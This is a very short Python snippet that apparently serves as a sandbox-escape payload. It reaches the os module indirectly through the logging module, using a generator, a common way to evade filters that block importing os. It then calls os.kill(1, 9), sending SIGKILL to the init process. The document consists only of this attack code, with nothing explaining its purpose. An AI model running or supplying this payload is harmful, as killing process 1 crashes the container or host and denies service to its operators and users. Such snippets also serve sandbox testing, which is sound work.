import logging
def gen():
    yield logging
next(gen()).os.kill(1, 9)
